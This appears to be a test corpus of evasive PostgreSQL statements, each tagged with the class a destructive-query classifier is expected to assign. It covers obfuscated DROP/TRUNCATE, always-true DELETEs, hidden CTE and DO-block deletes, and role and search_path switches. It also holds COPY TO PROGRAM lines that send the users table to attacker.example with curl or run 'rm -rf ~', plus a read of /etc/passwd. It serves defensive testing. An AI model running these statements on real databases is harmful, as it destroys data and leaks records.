-- Attempts to smuggle destructive statements past the classifier, separated by lines '--@@'.
-- Each entry starts with a line '-- expect: <class>[,<class>…]' naming classes that MUST be
-- present on at least one of the entry's statements; the rest of the entry is the SQL sent.
-- Tables used: users, orders, audit (replayed live through the proxy under a production policy).
-- expect: drop.table
SELECT 1; DROP TABLE users
--@@
-- expect: drop.table
SELECT 1 /* harmless; */; DROP TABLE users -- ; SELECT 2
--@@
-- expect: drop.table
SELECT '; DROP TABLE users; --'; DROP TABLE users
--@@
-- expect: drop.table
SELECT $$ ; $$; DROP TABLE users
--@@
-- expect: drop.table
SELECT $a$ $b$ ; $b$ $a$; DROP TABLE users
--@@
-- expect: drop.table
SELECT E'it\'s; fine'; DROP TABLE users
--@@
-- expect: drop.table
SELECT 'it''s; fine'; DROP TABLE users
--@@
-- expect: drop.table
SELECT 1 AS "semi;colon"; DROP TABLE users
--@@
-- expect: drop.table
SELECT /* outer /* inner; DROP TABLE decoy; */ still comment; */ 1; DROP TABLE users
--@@
-- expect: drop.table
SELECT 1 -- line comment hides nothing after the newline
; DROP TABLE users
--@@
-- expect: drop.table
DROP	TABLE
users
--@@
-- expect: drop.table
DROP TABLE users
--@@
-- expect: drop.table
DROP/**/TABLE/**/users
--@@
-- expect: drop.table
dRoP tAbLe UsErS
--@@
-- expect: drop.table
DROP TABLE public.users
--@@
-- expect: drop.table
DROP TABLE "public"."users"
--@@
-- expect: drop.table
DROP TABLE U&"\0075\0073\0065\0072\0073"
--@@
-- expect: drop.table
DROP TABLE U&"!0075sers" UESCAPE '!'
--@@
-- expect: drop.table
DROP TABLE IF EXISTS no_such_table, users CASCADE
--@@
-- expect: truncate
TRUNCATE no_such_table_first, users
--@@
-- expect: truncate
TRUNCATE TABLE ONLY users RESTART IDENTITY CASCADE
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 1=1
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 'a' = 'a'
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE true
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 't'
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 'on'::boolean
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE NOT false
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE NOT NOT NOT false
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE id = -1 OR true
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE id = id
--@@
-- expect: delete.unbounded
DELETE FROM users u WHERE u.id = u.id
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE NULL IS NULL
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE coalesce(NULL, true)
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE (SELECT true)
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE EXISTS (SELECT 1)
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 1 < 2
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 2 + 2 = 4
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 'a' || 'b' = 'ab'
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE CASE WHEN false THEN false ELSE true END
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE (id = 5 AND email = 'x') OR ('x' = 'x')
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE id = 5 OR id <> 5
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE email IS NULL OR email IS NOT NULL
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 1 IN (1, 2, 3)
--@@
-- expect: delete.unbounded
DELETE FROM users WHERE 5 BETWEEN 1 AND 10
--@@
-- expect: delete.unbounded
DELETE FROM users USING orders WHERE true
--@@
-- expect: delete.unbounded
DELETE FROM users USING orders
--@@
-- expect: delete.maybe_unbounded
DELETE FROM users WHERE id IS NOT NULL
--@@
-- expect: delete.maybe_unbounded
DELETE FROM users WHERE id IN (SELECT id FROM users)
--@@
-- expect: delete.maybe_unbounded
DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders)
--@@
-- expect: delete.maybe_unbounded
DELETE FROM users WHERE email LIKE '%%'
--@@
-- expect: delete.maybe_unbounded
DELETE FROM users WHERE id = id + 0
--@@
-- expect: delete.maybe_unbounded
DELETE FROM users WHERE random() >= 0
--@@
-- expect: update.unbounded
UPDATE users SET email = 'x' WHERE 1 = 1
--@@
-- expect: update.unbounded
UPDATE users SET email = o.id::text FROM orders o WHERE true
--@@
-- expect: update.unbounded
UPDATE users SET email = NULL WHERE NOT false
--@@
-- expect: delete.unbounded
WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d
--@@
-- expect: delete.unbounded
WITH d AS (DELETE FROM users RETURNING *) TABLE d
--@@
-- expect: delete.unbounded
WITH a AS (WITH b AS (DELETE FROM users RETURNING id) SELECT id FROM b) SELECT * FROM a
--@@
-- expect: delete.unbounded
SELECT * FROM (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) x
--@@
-- expect: delete.unbounded
SELECT (WITH d AS (DELETE FROM users RETURNING 1) SELECT count(*) FROM d)
--@@
-- expect: delete.unbounded
CREATE TABLE users_backup AS WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
--@@
-- expect: delete.unbounded
INSERT INTO audit SELECT 1 FROM (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) x
--@@
-- expect: update.unbounded
WITH u AS (UPDATE users SET email = NULL RETURNING 1) SELECT 1
--@@
-- expect: delete.unbounded
COPY (DELETE FROM users RETURNING *) TO STDOUT
--@@
-- expect: delete.unbounded
EXPLAIN ANALYZE DELETE FROM users
--@@
-- expect: delete.unbounded
EXPLAIN (ANALYZE) DELETE FROM users
--@@
-- expect: delete.unbounded
EXPLAIN (COSTS OFF, ANALYZE TRUE, TIMING OFF) DELETE FROM users
--@@
-- expect: delete.unbounded
explain analyse delete from users
--@@
-- expect: delete.unbounded
PREPARE wipe AS DELETE FROM users
--@@
-- expect: delete.unbounded,code.opaque
PREPARE wipe2 AS DELETE FROM users; EXECUTE wipe2
--@@
-- expect: code.opaque
EXPLAIN ANALYZE EXECUTE some_prepared_statement
--@@
-- expect: create.code,delete.unbounded
CREATE RULE sneaky AS ON INSERT TO audit DO INSTEAD DELETE FROM users
--@@
-- expect: create.code,delete.unbounded
CREATE RULE sneaky2 AS ON UPDATE TO audit DO ALSO (SELECT 1; DELETE FROM users WHERE true)
--@@
-- expect: merge.delete
MERGE INTO users u USING orders o ON u.id = o.user_id WHEN MATCHED THEN DELETE
--@@
-- expect: merge.delete
MERGE INTO users u USING (SELECT 1 AS id) s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
--@@
-- expect: code.do,drop.table
DO $$ BEGIN DROP TABLE users; END $$
--@@
-- expect: code.do,delete.unbounded
DO $body$ BEGIN IF 1 = 1 THEN DELETE FROM users; END IF; END $body$
--@@
-- expect: code.do,drop.table
DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE ' || 'users'; END $$
--@@
-- expect: code.do,code.opaque
DO $$ DECLARE t text := chr(117) || 'sers'; BEGIN EXECUTE format('TRUNCATE %I', t); END $$
--@@
-- expect: code.do,drop.table
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
--@@
-- expect: code.do,drop.table
DO $$ BEGIN EXECUTE 'DO $x$ BEGIN DROP TABLE users; END $x$'; END $$
--@@
-- expect: code.do,system
DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid(); END $$
--@@
-- expect: code.do,code.opaque
DO LANGUAGE plperlu $$ unlink '/var/lib/postgresql/data/PG_VERSION' $$
--@@
-- expect: create.code,drop.table
CREATE FUNCTION cleanup() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$
--@@
-- expect: create.code,truncate
CREATE FUNCTION cleanup_sql() RETURNS void LANGUAGE sql AS 'TRUNCATE users'
--@@
-- expect: create.code,delete.unbounded
CREATE PROCEDURE cleanup_atomic() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END
--@@
-- expect: create.code,delete.unbounded
CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN NEW; END $$
--@@
-- expect: code.call
CALL some_cleanup_procedure()
--@@
-- expect: large_object.delete
SELECT lo_unlink(l.oid) FROM pg_largeobject_metadata l
--@@
-- expect: system
SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity
--@@
-- expect: system
SELECT "pg_terminate_backend"(pg_backend_pid() + 1000000)
--@@
-- expect: system
SELECT PG_CANCEL_BACKEND(1)
--@@
-- expect: system
SELECT * FROM users WHERE id = 1 AND pg_reload_conf()
--@@
-- expect: system
SELECT id FROM users ORDER BY pg_cancel_backend(0)
--@@
-- expect: system
SELECT CASE WHEN false THEN pg_reload_conf() END
--@@
-- expect: system
SELECT count(*) FROM users, LATERAL (SELECT pg_cancel_backend(0)) x
--@@
-- expect: system
INSERT INTO audit VALUES (pg_reload_conf()::int)
--@@
-- expect: system,drop.table
SELECT dblink_exec('dbname=postgres', 'DROP TABLE users')
--@@
-- expect: delete.unbounded
SELECT query_to_xml('WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d', true, true, '')
--@@
-- expect: session.search_path
SELECT set_config('search_path', 'evil, public', false)
--@@
-- expect: session.search_path
SELECT set_config('SEARCH_PATH', 'evil', false)
--@@
-- expect: session.role
SELECT set_config('role', 'postgres', false)
--@@
-- expect: session.string_literals
SELECT set_config('standard_conforming_strings', 'off', false)
--@@
-- expect: session.encoding
SELECT set_config('client_encoding', 'SJIS', false)
--@@
-- expect: session.search_path
SELECT set_config(lower('SEARCH_PATH'), 'evil', false)
--@@
-- expect: session.replication_role
SET session_replication_role = replica
--@@
-- expect: session.encoding
SET NAMES 'SJIS'
--@@
-- expect: session.encoding
SET client_encoding = 'BIG5'
--@@
-- expect: session.string_literals
SET standard_conforming_strings = off
--@@
-- expect: session.role
SET SESSION AUTHORIZATION postgres
--@@
-- expect: session.role
SET LOCAL ROLE postgres
--@@
-- expect: session.search_path,drop.table
SET search_path = pg_temp, public; DROP TABLE users
--@@
-- expect: copy.program
COPY users TO PROGRAM 'curl -d @- http://attacker.example'
--@@
-- expect: copy.program
COPY (SELECT 1) TO PROGRAM 'rm -rf ~'
--@@
-- expect: system
COPY users FROM '/etc/passwd'
--@@
-- expect: alter.drop_column
ALTER TABLE users ADD COLUMN x int, DROP COLUMN email
--@@
-- expect: alter.column_type
ALTER TABLE users ALTER COLUMN email TYPE int USING 0
--@@
-- expect: alter.rename
ALTER TABLE users RENAME TO users_gone
--@@
-- expect: alter.set_schema
ALTER TABLE users SET SCHEMA pg_temp
--@@
-- expect: drop.database
DROP DATABASE IF EXISTS app WITH (FORCE)
--@@
-- expect: drop.owned
DROP OWNED BY CURRENT_USER CASCADE
--@@
-- expect: reassign_owned
REASSIGN OWNED BY CURRENT_USER TO postgres
--@@
-- expect: drop.schema
DROP SCHEMA public CASCADE
--@@
-- expect: system
ALTER SYSTEM SET shared_preload_libraries = 'evil'
--@@
-- expect: maintenance
VACUUM (FULL, ANALYZE) users
--@@
-- expect: unparsed
DROP TABLE users; this is not sql
--@@
-- expect: unparsed
DELETE FROM users WHERE id = 1 -- ok
; garbage(
--@@
-- expect: alter.column_type
-- destroys directly
ALTER TABLE users ALTER COLUMN email TYPE varchar(5) USING left(email, 5)
--@@
-- expect: alter.column_type
-- destroys directly
ALTER TABLE users ALTER COLUMN email TYPE text USING NULL
--@@
-- expect: alter.column_type
-- destroys directly
ALTER TABLE audit ALTER COLUMN x TYPE numeric(1,-1)
--@@
-- expect: alter.column_type
-- destroys directly
ALTER TABLE users ALTER COLUMN email TYPE varchar(200); ALTER TABLE audit ALTER COLUMN x TYPE numeric(1,-1)
--@@
-- expect: alter.column_type
-- destroys directly
ALTER TABLE audit ALTER COLUMN x TYPE boolean USING x > 5
--@@
-- expect: truncate
-- destroys directly
CREATE TEMP TABLE audit (x int); SET search_path = public, pg_temp; TRUNCATE audit
--@@
-- expect: truncate
-- destroys directly
CREATE TEMP TABLE audit (x int); SET search_path = "$user", public, pg_temp; TRUNCATE TABLE audit RESTART IDENTITY
--@@
-- expect: truncate
-- destroys directly
CREATE TEMP TABLE t1 (x int); TRUNCATE t1, audit
--@@
-- expect: truncate
-- destroys directly
CREATE TEMP TABLE t1 (x int); TRUNCATE pg_temp.t1, public.audit
--@@
-- expect: delete.bounded
-- destroys directly
DELETE FROM orders WHERE id > 0
--@@
-- expect: delete.maybe_unbounded
-- destroys directly
DELETE FROM orders WHERE id > -2147483648
--@@
-- expect: update.maybe_unbounded
-- destroys directly
UPDATE users SET email = 'gone' WHERE length(email) >= 0
--@@
-- expect: delete.bounded
-- destroys directly
DELETE FROM orders WHERE id BETWEEN -2147483648 AND 2147483647
--@@
-- expect: delete.bounded
-- destroys directly
DELETE FROM orders USING users WHERE orders.user_id = users.id
--@@
-- expect: update.bounded
-- destroys directly
UPDATE users SET email = 'gone' FROM orders WHERE orders.user_id = users.id
--@@
-- expect: merge.delete
-- destroys directly
MERGE INTO orders USING orders s ON orders.id = s.id WHEN MATCHED THEN DELETE
--@@
-- expect: delete.bounded
-- destroys directly
PREPARE p(int) AS DELETE FROM orders WHERE id > $1; EXECUTE p(-1)
--@@
-- expect: delete.bounded
-- destroys directly
WITH d AS (DELETE FROM orders WHERE id > 0 RETURNING *) SELECT count(*) FROM d
--@@
-- expect: insert.upsert
-- destroys directly
INSERT INTO users SELECT id, 'gone' FROM users ON CONFLICT (id) DO UPDATE SET email = excluded.email
--@@
-- expect: insert.upsert
-- destroys directly
WITH u AS (INSERT INTO users SELECT id, NULL FROM users ON CONFLICT (id) DO UPDATE SET email = excluded.email RETURNING id) SELECT count(*) FROM u
--@@
-- expect: merge.update
-- destroys directly
MERGE INTO users USING users s ON users.id = s.id WHEN MATCHED THEN UPDATE SET email = 'gone'
--@@
-- expect: merge.update
-- destroys directly
MERGE INTO users USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET email = NULL
